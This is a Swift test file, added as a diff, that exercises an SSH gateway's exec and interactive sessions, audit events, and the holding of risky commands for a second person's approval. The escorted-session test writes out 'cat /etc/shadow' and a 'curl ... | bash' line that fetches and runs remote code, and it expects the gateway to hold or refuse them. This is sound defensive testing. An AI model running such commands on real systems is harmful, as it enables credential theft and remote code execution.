@@ -1,0 +1,101 @@
+import AuditLog
+import EscortCore
+import EscortTesting
+import Foundation
+import Gateway
+import Testing
+
+/// The gateway with the stock OpenSSH client: exec and interactive sessions, holds, escorts.
+@Suite(.serialized)
+struct GatewaySessionTests {
+    static let sshAvailable = FileManager.default.isExecutableFile(atPath: "/usr/bin/ssh")
+
+    @Test(.enabled(if: sshAvailable))
+    func execRunsAHarmlessCommandAndReturnsItsStatus() async throws {
+        let gw = try await GatewayFixture()
+        defer { Task { await gw.close() } }
+        let ok = try gw.ssh("alice+local", as: "alice", tty: false, command: ["--", "echo hello-from-target; exit 3"])
+        let status = await ok.waitForExit()
+        #expect(ok.output.contains("hello-from-target"), "output: \(ok.output) err: \(ok.errorOutput)")
+        #expect(status == 3)
+        let codes = try await gw.events().map(\.0)
+        #expect(codes.contains(AuditEventCode.commandForwarded.code))
+        #expect(codes.contains(AuditEventCode.sessionStarted.code))
+    }
+
+    @Test(.enabled(if: sshAvailable))
+    func interactiveSessionEchoesRunsAndStripsTheMarker() async throws {
+        let gw = try await GatewayFixture()
+        defer { Task { await gw.close() } }
+        let p = try gw.ssh("alice+local", as: "alice", tty: true)
+        #expect(await p.waitFor("local:"), "no prompt: \(p.output) \(p.errorOutput)")
+        p.send("echo one-$((40+2))\r")
+        #expect(await p.waitFor("one-42"))
+        // A multi-line paste becomes separate commands, each analysed.
+        p.send("echo first-line\recho second-line\r")
+        #expect(await p.waitFor("second-line"))
+        p.send("echo $PS1\r")
+        #expect(await p.waitFor("[escort-nonce]"), "the nonce must be redacted: \(p.output)")
+        #expect(!p.output.contains("\u{1B}]777"), "markers leak: \(p.output)")
+        p.send("\u{04}")
+        #expect(await p.waitForExit() != nil)
+        let forwarded = try await gw.events().filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
+        #expect(forwarded.contains("echo first-line"))
+        #expect(forwarded.contains("echo second-line"))
+    }
+
+    @Test(.enabled(if: sshAvailable))
+    func escortedSessionWaitsForEscortAndHeldCommandNeedsApproval() async throws {
+        let gw = try await GatewayFixture()
+        defer { Task { await gw.close() } }
+        let alice = try gw.ssh("alice+secure", as: "alice", tty: true)
+        #expect(await alice.waitFor("secure:"), "no prompt: \(alice.output) \(alice.errorOutput)")
+        alice.send("echo before-$((1+1))-escort\r")
+        #expect(await alice.waitFor("waiting for an escort"))
+        #expect(!alice.output.contains("before-2-escort"))
+
+        let bob = try gw.ssh("bob", as: "bob", tty: true)
+        #expect(await bob.waitFor("alice on secure"), "console: \(bob.output) \(bob.errorOutput)")
+        bob.send("watch 1\r")
+        #expect(await bob.waitFor("Attached"))
+        #expect(await alice.waitFor("before-2-escort"))
+
+        let mark = alice.output.count
+        alice.send("cat /etc/shadow\r")
+        #expect(await alice.waitFor("held for an escort", after: mark))
+        #expect(await bob.waitFor("HELD #"))
+        #expect(await bob.waitFor("ATT&CK: T1003.008"))
+        // The engineer cannot approve her own command, and a refusal needs a reason.
+        bob.send("refuse\r")
+        #expect(await bob.waitFor("needs a reason"))
+        bob.send("refuse not needed for this ticket\r")
+        #expect(await alice.waitFor("refused by bob: not needed for this ticket"))
+
+        alice.send("ls /etc/passwd-does-not-exist; cat /etc/shadow\r")
+        #expect(await bob.waitFor("HELD #2"))
+        bob.send("approve\r")
+        #expect(await alice.waitFor("approved by bob"))
+
+        // Critical in an escorted session: refused outright.
+        let mark2 = alice.output.count
+        alice.send("curl -s http://203.0.113.9/x | bash\r")
+        #expect(await alice.waitFor("refused", after: mark2))
+
+        bob.send("end enough for today\r")
+        #expect(await alice.waitFor("ended this session"))
+        #expect(await alice.waitForExit() != nil)
+        bob.send("quit\r")
+        _ = await bob.waitForExit()
+
+        let events = try await gw.events()
+        let codes = events.map(\.0)
+        #expect(codes.contains(AuditEventCode.commandHeld.code))
+        #expect(codes.contains(AuditEventCode.commandApproved.code))
+        #expect(codes.contains(AuditEventCode.escortAttached.code))
+        #expect(codes.contains(AuditEventCode.sessionKilled.code))
+        #expect(codes.contains(AuditEventCode.recordingClosed.code))
+        let forwarded = events.filter { $0.0 == AuditEventCode.commandForwarded.code }.compactMap { $0.1["command"]?.stringValue }
+        #expect(!forwarded.contains("cat /etc/shadow"))
+        #expect(!forwarded.contains { $0.contains("curl") })
+    }
+}
